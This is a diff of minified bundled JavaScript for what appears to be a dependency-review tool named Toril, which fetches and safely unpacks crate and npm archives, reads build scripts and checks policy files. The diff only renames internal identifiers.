 const script=texts2.get("build.rs"),commands2=script===void 0?[]:pluginCommands2(script),files=[...texts2].flatMap(([path,text3])=>path==="build.rs"?[]:[{path,text:text3}]);
 return files.length>0||script!==void 0&&commands2!==void 0?{files,commands:commands2??null}:void 0}function pluginCommands2(text3){const source=rustSource({path:"\
 build.rs",id:"",text:text3}),open=builderIn(source);if(open===void 0)return;const[list]=argumentsAt(source,open).map(part=>expressionIn(source,part)),named12=list?.
-kind==="name"?constantIn(source,list.path.at(-1)??""):list;return textsOf2(named12)?.map(({value})=>value)??null}function builderIn({tokens}){for(const[index,{kind,
+kind==="name"?constantIn(source,list.path.at(-1)??""):list;return textsOf3(named12)?.map(({value})=>value)??null}function builderIn({tokens}){for(const[index,{kind,
 text:text3}]of tokens.entries()){const path=kind==="word"&&text3==="Builder"?pathAt(tokens,index,tokens.length):null;if(path?.names.join("::")==="Builder::new"&&
 isOpen(tokens[path.next],"("))return path.next}}function constantIn(source,constant){const[only2,...others]=itemsOf2(source).constants.filter(({name})=>name===constant);
 return only2===void 0||others.length>0?void 0:expressionIn(source,only2.value)}function crateFact(manifest2,files,texts2=new Map,code2=new Map){const parsed10=parseFile(
@@ -12326,15 +12418,15 @@ url,commit]),tree=opened2.get(key3)??repositories({url,commit}).then(found12=>fo
 tree}}async function factOf(need,trees){try{return await factIn(need,await trees(need))}catch(error){if(!(error instanceof import_shared_aes.RemoteError))throw error;
 return{value:{unknown:"its repository isn't there, or can't be read from here"},bytes:0}}}async function factIn(need,tree){if(tree===void 0)return{value:NO_REPOSITORIES,
 bytes:0};const{entries}=await tree.list(),manifests=entries.filter(({path})=>/(?:^|\/)Cargo\.toml$/.test(path));if(manifests.length>LIMITS4.manifests)return{value:{
-unknown:"its repository holds more crates than are looked through"},bytes:0};const texts2=await textsOf7(tree,manifests),own=manifests.find(entry=>nameIn9(entry,
+unknown:"its repository holds more crates than are looked through"},bytes:0};const texts2=await textsOf8(tree,manifests),own=manifests.find(entry=>nameIn9(entry,
 texts2.get(entry.path))===need.name),text3=own&&texts2.get(own.path),bytes=sizeOf4(manifests);if(own===void 0||text3===void 0)return{value:{unknown:"no crate of\
  its name is in the repository at that commit"},bytes};const folder=own.path.slice(0,-10),files=entries.filter(({path})=>path.startsWith(folder)),inside=path=>path.
-slice(folder.length),saying2=need.name.startsWith("tauri-plugin-")?files.filter(({path})=>saysPermissions(inside(path))):[],said2=await textsOf7(tree,saying2),manifest2={
+slice(folder.length),saying2=need.name.startsWith("tauri-plugin-")?files.filter(({path})=>saysPermissions(inside(path))):[],said2=await textsOf8(tree,saying2),manifest2={
 path:own.path,id:own.id,text:text3},paths3=files.map(({path})=>inside(path)),code2=await codeTexts(codeToRead(manifest2,paths3),(wanted,most)=>codeIn(tree,files,
 folder,wanted,most)),plugin=new Map([...said2].map(([path,each])=>[inside(path),each])),read11=[...code2.values()].reduce((sum,each)=>sum+Buffer.byteLength(each),
 0);return{value:crateFact(manifest2,paths3,plugin,code2),bytes:bytes+sizeOf4(saying2)+read11}}async function codeIn(tree,files,folder,wanted,most){let left2=most;
 const asked4=files.filter(({path,size})=>{const fits4=wanted.has(path.slice(folder.length))&&size<=CODE_LIMITS.textBytes&&size<=left2;return fits4&&(left2-=size),
-fits4}),texts2=await textsOf7(tree,asked4);return new Map([...texts2].map(([path,text3])=>[path.slice(folder.length),text3]))}async function textsOf7(tree,entries){
+fits4}),texts2=await textsOf8(tree,asked4);return new Map([...texts2].map(([path,text3])=>[path.slice(folder.length),text3]))}async function textsOf8(tree,entries){
 const blobs=await tree.read(entries);return new Map(entries.flatMap(({path,id})=>{const blob=blobs.get(id);return blob===void 0?[]:[[path,Buffer.from(blob).toString(
 "utf8")]]}))}function nameIn9({path,id},text3){if(text3===void 0)return;const parsed10=parseFile({path,id,text:text3});return parsed10.ok?asString(pick(parsed10.
 value,"package","name")):void 0}function sizeOf4(entries){return entries.reduce((sum,{size})=>sum+size,0)}var WHY_LEFT_OUT2={count:"no more crates of repositori\
@@ -12344,10 +12436,10 @@ fact),!isUnknown(fact)&&used.push(factUsed(need,"repository"))}return factsFrom(
 url,commit})=>{const address=URL.canParse(url)?new URL(url):void 0,[,owner,repo]=/^\/(\w[\w.-]*)\/(\w[\w.-]*)$/.exec(address?.pathname??"")??[];if(!(!(address?.
 protocol==="https:"&&address.origin===new URL(forge).origin)||owner===void 0||repo===void 0))return/^[0-9a-f]{40}$/.test(commit)?(0,import_shared_aes.githubTree)(
 github,{owner,repo},commit):void 0}}function factsFor({facts,github,forge}){if(forge===void 0)return facts;const repositories=gitCrates(githubRepositories(github,
-forge));return joinedSources({crate:facts,"git crate":repositories,"npm package":facts})}function isOfUse(path){return ofUse([{path,id:"",size:0}]).length>0}function policyNotice(before2,after2){
+forge));return joinedSources({crate:facts,"git crate":repositories,"npm package":facts})}function isOfUse(path){return ofUse([{path,id:"",size:0}]).length>0}function policyNotice(before3,after2){
 const judged=`This change edits Toril's policy, ${(0,import_shared_acegpst.code)(import_shared_acegps.POLICY_PATH)}. It was judged by the policy of the default \
 branch, and the new one holds once it is merged.`;if(!after2.ok){const[first]=after2.errors,where=first===void 0?"":` Line ${first.at.line}: ${first.message}`;return[
-`${judged} The new policy can't be read, and then every review fails.${where}`]}return before2.ok&&isSame9(before2.policy,after2.policy)?[]:[judged]}function isSame9(a3,b5){
+`${judged} The new policy can't be read, and then every review fails.${where}`]}return before3.ok&&isSame9(before3.policy,after2.policy)?[]:[judged]}function isSame9(a3,b5){
 return a3.commentFrom===b5.commentFrom&&valuesOf3(a3,b5).every(({says})=>says(a3)===says(b5))}function policyInBytes(path,{id,bytes}){try{const text3=new TextDecoder(
 "utf-8",{fatal:!0}).decode(bytes);return readPolicy({path,id,text:text3},(0,import_shared_aces.today)())}catch(error){if(!(error instanceof TypeError))throw error;
 return{ok:!1,errors:[{at:(0,import_shared_acegos.topOf)(path),message:"The policy is not UTF-8 text."}]}}}var NO_POLICY={ok:!0,policy:import_shared_aces.DEFAULT_POLICY,
@@ -12357,7 +12449,7 @@ floorIn(owners,repository),isForAll);return!judging.ok||failOn===void 0?judging:
 const reading=own===null?NO_POLICY:policyInBytes(import_shared_acegps.POLICY_PATH,own);return reading.ok&&reading.policy.extendsOrganization}function floorIn(owners,{
 owner,repo}){return owners===null||owners.kind==="unknown"||repo.toLowerCase()===import_shared_aes.OWNERS_REPOSITORY?null:owners.kind!=="file"?owners:{kind:"rea\
 d",reading:policyInBytes(`${owner}/${import_shared_aes.OWNERS_REPOSITORY}/${import_shared_acegps.POLICY_PATH}`,owners.file)}}async function policyNotices(current,base,head){
-const[before2,after2]=await Promise.all([base.list(),head.list()]),[there,here]=[before2,after2].map(({entries})=>entries.find(({path})=>path===import_shared_acegps.POLICY_PATH));
+const[before3,after2]=await Promise.all([base.list(),head.list()]),[there,here]=[before3,after2].map(({entries})=>entries.find(({path})=>path===import_shared_acegps.POLICY_PATH));
 if(there?.id===here?.id)return[];const bytes=here===void 0?void 0:(await head.read([here])).get(here.id),edited=here===void 0||bytes===void 0?NO_POLICY:policyInBytes(
 import_shared_acegps.POLICY_PATH,{id:here.id,bytes});return policyNotice(current===null?NO_POLICY:policyInBytes(import_shared_acegps.POLICY_PATH,current),edited)}
 var randomUUID=(...given2)=>process.getBuiltinModule("node:crypto").randomUUID(...given2),mkdir=(...given2)=>process.getBuiltinModule("node:fs/promises").mkdir(
@@ -12367,15 +12459,15 @@ writeFile(...given2),{join:join2}=process.getBuiltinModule("node:path");function
 const folder=join2(directory,format.name);return{async get(checksum){const path=fileFor(folder,checksum);if(path!==void 0)try{return valueIn3(JSON.parse(await readFile(
 path,"utf8")),checksum,format)}catch{return}},async put(checksum,value){const path=fileFor(folder,checksum);if(path===void 0)return;const text3=`${JSON.stringify(
 {version:format.version,checksum,value})}
-`;await replace(folder,path,text3).catch(()=>{})}}}async function cachedAnswers(items,cache,keyOf10){const known13=await(0,import_shared_acegos.concurrently)(items,
-64,item=>cache.get(keyOf10(item)));return new Map(items.flatMap((item,at2)=>{const value=known13[at2];return value===void 0?[]:[[item,value]]}))}function fileFor(folder,checksum){
+`;await replace(folder,path,text3).catch(()=>{})}}}async function cachedAnswers(items,cache,keyOf11){const known13=await(0,import_shared_acegos.concurrently)(items,
+64,item=>cache.get(keyOf11(item)));return new Map(items.flatMap((item,at2)=>{const value=known13[at2];return value===void 0?[]:[[item,value]]}))}function fileFor(folder,checksum){
 return/^[0-9a-f]{64}$/.test(checksum)?join2(folder,`${checksum}.json`):void 0}function valueIn3(entry,checksum,format){if(typeof entry!="object"||entry===null)return;
 const{version,checksum:about,value}=entry;if(!(version!==format.version||about!==checksum))return format.isValue(value)?value:void 0}async function replace(folder,path,text3){
 await mkdir(folder,{recursive:!0});const draft=`${path}.${randomUUID()}.tmp`;try{await writeFile(draft,text3,{flag:"wx"}),await rename(draft,path)}finally{await rm(
 draft,{force:!0})}}var STEPS=["build-script","proc-macro","install-script"];function isBuildCodes(value){return Array.isArray(value)&&value.every(isBuildCode)}function isBuildCode(value){
-if(typeof value!="object"||value===null)return!1;const{step,class:seen,hash,telling:telling3,text:text3}=value,isKnown3=STEPS.includes(step)&&CODE_CLASSES.some(
-each=>each===seen),isHash=typeof hash=="string"&&/^[0-9a-f]{64}$/.test(hash);return isKnown3&&isHash&&(text3===null||typeof text3=="string")&&Array.isArray(telling3)&&
-telling3.every(isTellingLine)}function isTellingLine(value){if(typeof value!="object"||value===null)return!1;const{path,line,text:text3}=value;return typeof path==
+if(typeof value!="object"||value===null)return!1;const{step,class:seen,hash,telling:telling2,text:text3}=value,isKnown3=STEPS.includes(step)&&CODE_CLASSES.some(
+each=>each===seen),isHash=typeof hash=="string"&&/^[0-9a-f]{64}$/.test(hash);return isKnown3&&isHash&&(text3===null||typeof text3=="string")&&Array.isArray(telling2)&&
+telling2.every(isTellingLine)}function isTellingLine(value){if(typeof value!="object"||value===null)return!1;const{path,line,text:text3}=value;return typeof path==
 "string"&&Number.isInteger(line)&&typeof text3=="string"}var crateFactFormat={name:"crate-facts",version:5,isValue:isCrateFact};function isCrateFact(value){if(typeof value!=
 "object"||value===null)return!1;const{buildScripts:buildScripts2,procMacro,links,code:code2,plugin}=value;return isTexts3(buildScripts2)&&isBuildCodes(code2)&&(plugin===
 void 0||isPluginInterface(plugin))&&typeof procMacro=="boolean"&&(links===null||typeof links=="string")}function isPluginInterface(value){if(typeof value!="obje\
@@ -12400,8 +12492,8 @@ status>=500||response.status===429;throw new DownloadError(`the registry answere
 const tooLarge3=()=>new DownloadError("it is larger than any package may be");if(Number(response.headers.get("content-length")??0)>limit)throw await response.body?.
 cancel(),tooLarge3();const chunks=[];let size=0;for await(const chunk of response.body??[]){if(size+=chunk.byteLength,size>limit)throw tooLarge3();chunks.push(chunk)}
 return Buffer.concat(chunks)}var Odd=class extends Error{},ByteReader=class{#chunks;#held=new Uint8Array;constructor(chunks){this.#chunks=chunks[Symbol.asyncIterator]()}async upTo(count){
-const parts=[];for(let missing2=count;missing2>0&&await this.#fill();){const part=this.#held.subarray(0,missing2);this.#held=this.#held.subarray(part.length),missing2-=
-part.length,parts.push(part)}return Buffer.concat(parts)}async exactly(count){const bytes=await this.upTo(count);if(bytes.length<count)throw new Odd(CUT);return bytes}async skip(count){
+const parts2=[];for(let missing2=count;missing2>0&&await this.#fill();){const part=this.#held.subarray(0,missing2);this.#held=this.#held.subarray(part.length),missing2-=
+part.length,parts2.push(part)}return Buffer.concat(parts2)}async exactly(count){const bytes=await this.upTo(count);if(bytes.length<count)throw new Odd(CUT);return bytes}async skip(count){
 for(let missing2=count;missing2>0;){if(!await this.#fill())throw new Odd(CUT);const passed3=Math.min(missing2,this.#held.length);this.#held=this.#held.subarray(
 passed3),missing2-=passed3}}async restIsZeros(){for(;await this.#fill();){if(this.#held.some(byte=>byte!==0))return!1;this.#held=new Uint8Array}return!0}async#fill(){
 for(;this.#held.length===0;){const next2=await this.#chunks.next();if(next2.done===!0)return!1;this.#held=next2.value}return!0}},CUT="isn't a whole tar.gz file",
@@ -12421,9 +12513,9 @@ const bytes=new ByteReader(chunks);let extended={};for(;;){const block=await byt
 restIsZeros()))throw new Odd("goes on behind its end");return}if(block.length<BLOCK)throw new Odd("isn't a whole tar.gz file");const header=tarHeader(block);if(EXTENDING.
 has(header.type)){if(header.size>MOST_EXTENDED)throw new Odd(AMBIGUOUS);const said2=await bytes.exactly(header.size);await bytes.skip(fillOf(header)),extended=extendedBy(
 extended,header.type,said2);continue}const content={left:header.size};yield entryOf7(header,extended,async()=>(content.left=0,bytes.exactly(header.size))),await bytes.
-skip(content.left+fillOf(header)),extended={}}}var EXTENDING=new Set(["x","g","L","K"]);function extendedBy(before2,type,bytes){if(type==="g")return noneOf(paxRecords(
-bytes),"path","linkpath","size"),before2;if(type!=="x"){const text3=plainText2(bytes).replace(/\0+$/,""),field3=type==="L"?"name":"linkname";if(before2[field3]!==
-void 0||before2.isPax)throw new Odd(AMBIGUOUS);return{...before2,[field3]:text3}}if(before2.name!==void 0||before2.linkname!==void 0||before2.isPax)throw new Odd(
+skip(content.left+fillOf(header)),extended={}}}var EXTENDING=new Set(["x","g","L","K"]);function extendedBy(before3,type,bytes){if(type==="g")return noneOf(paxRecords(
+bytes),"path","linkpath","size"),before3;if(type!=="x"){const text3=plainText2(bytes).replace(/\0+$/,""),field3=type==="L"?"name":"linkname";if(before3[field3]!==
+void 0||before3.isPax)throw new Odd(AMBIGUOUS);return{...before3,[field3]:text3}}if(before3.name!==void 0||before3.linkname!==void 0||before3.isPax)throw new Odd(
 AMBIGUOUS);const records=paxRecords(bytes),[name,linkname,size]=["path","linkpath","size"].map(key3=>records.get(key3));return{isPax:!0,...name!==void 0&&{name},
 ...linkname!==void 0&&{linkname},...size!==void 0&&{size}}}function noneOf(records,...keys){if(keys.some(key3=>records.has(key3)))throw new Odd(AMBIGUOUS)}function entryOf7(header,extended,content){
 const name=extended.name??header.name,linkname=extended.linkname??header.linkname,kind=kindOf7(header,name);if(name===""||name.length>LONGEST_NAME3||/[\\\0]/.test(
@@ -12445,7 +12537,7 @@ const texts2=await unpacked2(bytes,async entries=>{const found12=new Map;let lef
 1);!paths3.has(path)||entry.kind!=="file"||entry.size>CODE_LIMITS.textBytes||entry.size>left2||(left2-=entry.size,found12.set(path,await entry.text()))}return found12});
 return"refused"in texts2?new Map:texts2}function pathOf6({name,kind},root,names4){if(names4.size>=ARCHIVE_LIMITS.entries)throw new Odd("holds more files than an\
 y crate");if(kind==="link")throw new Odd("holds a link, and not only files");const path=name.startsWith(`${root}/`)?name.slice(root.length+1):void 0;if(path===void 0){
-if(kind==="folder"&&name===root)return"/";throw new Odd("holds a file outside of its own folder")}const parts=path.replace(/\/$/,"").split("/");if(path!==""&&parts.
+if(kind==="folder"&&name===root)return"/";throw new Odd("holds a file outside of its own folder")}const parts2=path.replace(/\/$/,"").split("/");if(path!==""&&parts2.
 some(part=>part===""||part==="."||part===".."))throw new Odd("holds a file outside of its own folder");if(kind==="folder")return note3(`${path.replace(/\/$/,"")}\
 /`,names4);if(names4.has(path))throw new Odd("holds one file twice");if(path!==MANIFEST6&&path.toLowerCase()===MANIFEST6.toLowerCase())throw new Odd("holds two \
 Cargo.toml");return note3(path,names4)}function note3(path,names4){return names4.add(path),path}function inPath(text3){return text3.split("/").map(part=>encodeURIComponent(
@@ -12473,20 +12565,20 @@ wants);if("refused"in archive)return{unknown:`its archive ${archive.refused}`};c
 codeToRead(manifest2,archive.files),(paths3,most)=>readCode2(bytes,root,paths3,most));return crateFact(manifest2,archive.files,archive.texts,code2)}function reasonOf3(error){
 if(error instanceof DownloadError)return error.message;throw error}function cratesAdapter({index,cache=noCache(),limits:changed,now=()=>new Date}){const limits=runLimits(
 changed);return{async fetch(needs){const crates=distinctNeeds(needs.filter(need=>need.kind==="crate")),asked4=crates.filter(({registry:registry2})=>registry2===
-null),cached=await cachedAnswers(asked4,cache,keyOf9),signal=AbortSignal.timeout(limits.runTime),bounds={bytes:limits.archiveBytes,time:limits.time,signal},registry=new CrateRegistry(
+null),cached=await cachedAnswers(asked4,cache,keyOf10),signal=AbortSignal.timeout(limits.runTime),bounds={bytes:limits.archiveBytes,time:limits.time,signal},registry=new CrateRegistry(
 index,bounds),stages={count:limits.archives,bytes:limits.bytes,parallel:limits.parallel,signal},fetched2=await fetchInStages(asked4.filter(need=>!cached.has(need)),
 stages,async need=>{const{listed:listed2,bytes}=await registry.listing(need),archive=await registry.lookAt(need);return isUnknown(archive.fact)||await cache.put(
 need.checksum,archive.fact),{value:{fact:{...listed2,...archive.fact},source:"registry"},bytes:bytes+archive.bytes}}),stillListed=await fetchInStages([...cached.
 keys()],stages,async need=>{const{listed:listed2,bytes}=await registry.listing(need);return{value:listed2,bytes}});return collected2(crates,need=>answerTo(need,
 fetched2.get(need),cached.get(need),stillListed.get(need)),now().toISOString().slice(0,10))}}}function cachedCrates(cache){return{async fetch(needs){const crates=distinctNeeds(
-needs.filter(need=>need.kind==="crate")),cached=await cachedAnswers(crates,cache,keyOf9);return collected2(crates,need=>({fact:cached.get(need)??OFFLINE,source:"\
+needs.filter(need=>need.kind==="crate")),cached=await cachedAnswers(crates,cache,keyOf10);return collected2(crates,need=>({fact:cached.get(need)??OFFLINE,source:"\
 cache"}))}}}function answerTo({registry},fetched2,cached,listed2){if(typeof fetched2=="object")return fetched2;const listing=typeof listed2=="object"?listed2:{};
 return cached!==void 0?{fact:{...cached,...listing},source:"cache"}:{fact:{unknown:registry!==null||fetched2===void 0?FOREIGN:WHY_LEFT_OUT[fetched2]},source:"re\
-gistry"}}var FOREIGN="it comes from another registry than crates.io, and Toril asks no address that a lockfile names",keyOf9=({checksum})=>checksum;function collected2(crates,answerFor,asked4=null){
+gistry"}}var FOREIGN="it comes from another registry than crates.io, and Toril asks no address that a lockfile names",keyOf10=({checksum})=>checksum;function collected2(crates,answerFor,asked4=null){
 const used=[],facts=new Map;for(const need of crates){const{fact,source}=answerFor(need);facts.set(needKey(need),fact),!isUnknown(fact)&&used.push(factUsed(need,
 source,fact.listing===void 0?null:asked4))}return factsFrom(facts,used,{unknown:"nobody asked for it"})}var createHash4=(...given2)=>process.getBuiltinModule("n\
-ode:crypto").createHash(...given2),ALGORITHMS=["sha512","sha384","sha256","sha1"];function decidingHash(integrity){const parts=integrity.split(/\s+/).map(part=>part.
-replace(/\?.*$/,""));for(const algorithm of ALGORITHMS){const own=new Set(parts.filter(part=>part.startsWith(`${algorithm}-`))),[only2,...others]=own;if(only2!==
+ode:crypto").createHash(...given2),ALGORITHMS=["sha512","sha384","sha256","sha1"];function decidingHash(integrity){const parts2=integrity.split(/\s+/).map(part=>part.
+replace(/\?.*$/,""));for(const algorithm of ALGORITHMS){const own=new Set(parts2.filter(part=>part.startsWith(`${algorithm}-`))),[only2,...others]=own;if(only2!==
 void 0)return others.length>0?void 0:{algorithm,digest:only2.slice(algorithm.length+1)}}}function fits3(bytes,{algorithm,digest}){return createHash4(algorithm).
 update(bytes).digest().equals(Buffer.from(digest,"base64"))}function cacheKeyOf({integrity,name,version}){const pinned2=integrity===""?JSON.stringify([name,version]):
 integrity;return createHash4("sha256").update(pinned2).digest("hex")}var MOST_MANIFEST_BYTES=4*1024*1024;async function readNpmArchive(bytes){const archive=await readManifests(
